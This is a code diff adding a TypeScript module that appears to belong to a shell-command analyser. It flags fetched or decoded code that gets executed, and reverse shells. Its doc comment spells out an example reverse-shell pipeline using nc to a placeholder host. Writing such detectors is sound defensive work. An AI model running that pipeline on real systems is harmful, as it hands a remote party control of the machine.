@@ -1,0 +1,51 @@
+import type { Effect } from '../../core/index.ts';
+import { type Analysis, addOpaque } from './analysis.ts';
+import { type Finding, opaque } from './program.ts';
+import type { Stream, Word } from './word.ts';
+
+const fetchedCode: readonly Finding[] = [
+	opaque('fetched code: what another machine answers is executed'),
+	{ find: 'trait', trait: 'fetch-to-shell' },
+];
+
+const fedUnknown = 'it executes what it is fed, which cannot be known';
+
+const decodedCode: readonly Finding[] = [opaque('decoded code: what cannot be read before it is decoded is executed')];
+
+/** What an interpreter that reads its program from its input is fed. */
+export function feedFindings(findings: readonly Finding[], stdin: Stream | undefined): readonly Finding[] {
+	if (!findings.some((finding) => finding.find === 'feed')) return [];
+	if (stdin?.fetched === true) return fetchedCode;
+	if (stdin?.decoded === true) return decodedCode;
+	return stdin?.text === undefined ? [opaque(fedUnknown)] : [];
+}
+
+/** What is executed and came from another machine, or was decoded. */
+export function fetchedFindings(findings: readonly Finding[], analysis: Analysis): readonly Finding[] {
+	const isFetched = findings.some(
+		(finding) =>
+			(finding.find === 'shell' && (finding.source.fetched || finding.source.stream?.fetched === true)) ||
+			(finding.find === 'executes' && analysis.fetchedFiles.has(finding.path)),
+	);
+	if (isFetched) return fetchedCode;
+	const isDecoded = findings.some((finding) => finding.find === 'shell' && isDecodedWord(finding.source));
+	return isDecoded ? decodedCode : [];
+}
+
+function isDecodedWord(word: Word): boolean {
+	return word.decoded === true || word.stream?.decoded === true;
+}
+
+/** What a fetching command writes is another machine's text. */
+export function noteFetched(effects: readonly Effect[], analysis: Analysis): void {
+	if (!effects.some((effect) => effect.kind === 'network')) return;
+	for (const effect of effects) if (effect.kind === 'write') analysis.fetchedFiles.add(effect.path);
+}
+
+/** A shell whose commands cannot be known, in one pipeline with another machine: `sh -i < pipe | nc host 1 > pipe`. */
+export function noteReverseShell(from: number, analysis: Analysis): void {
+	const effects = analysis.parts.slice(from).flatMap((part) => part.effects);
+	const isFed = effects.some((effect) => effect.kind === 'opaque' && effect.why === fedUnknown);
+	const isConnected = effects.some((effect) => effect.kind === 'network');
+	if (isFed && isConnected) addOpaque(analysis, '|', 'reverse shell: a shell is connected to another machine');
+}
